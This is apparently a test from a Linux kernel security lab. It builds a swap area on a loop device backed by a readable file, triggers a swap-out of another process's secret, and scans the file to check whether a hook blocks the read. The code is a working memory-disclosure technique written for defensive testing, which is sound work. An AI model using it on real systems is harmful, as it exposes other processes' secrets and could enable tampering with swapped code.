// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2, G1. Has the memory of other processes swapped out to a disk whose content it may read and
 * write. (It may then change it, too: code of a tmpfs is swapped like anything else.) Source: 6.12
 * survey, "swap contents rewrite: no hook". Control: the secret of another process is read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/loop.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/swap.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"

enum { PAGE = 4096, PAGES = 1024 };

/* The header of a swap area; what mkswap would write. */
static int make_area(void)
{
	static char page[PAGE];
	int fd = open("/tmp/lab-swap-area", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	uint32_t *words = (uint32_t *)(page + 1024);

	words[0] = 1;
	words[1] = PAGES - 1;
	memcpy(page + PAGE - 10, "SWAPSPACE2", 10);
	if (fd < 0 || ftruncate(fd, PAGES * PAGE) || write(fd, page, PAGE) != PAGE)
		no_effect(errno);
	return fd;
}

static bool appears(int area)
{
	static char page[PAGE];

	for (int i = 0; i < 50; i++) {
		for (off_t at = PAGE; pread(area, page, PAGE, at) == PAGE; at += PAGE)
			if (memmem(page, PAGE, STAGE_SECRET, strlen(STAGE_SECRET)))
				return true;
		usleep(20000);
	}
	return false;
}

void attack(void)
{
	int area = make_area(), disk;
	bool done;

	disk = open("/dev/loop3", O_RDWR | O_CLOEXEC);
	if (disk < 0 || ioctl(disk, LOOP_SET_FD, area))
		no_effect(errno);
	if (swapon("/dev/loop3", 0)) {
		const int error = errno;

		ioctl(disk, LOOP_CLR_FD, 0);
		no_effect(error);
	}
	stage("swap-out");
	done = appears(area);
	swapoff("/dev/loop3");
	ioctl(disk, LOOP_CLR_FD, 0);
	judge(done);
}
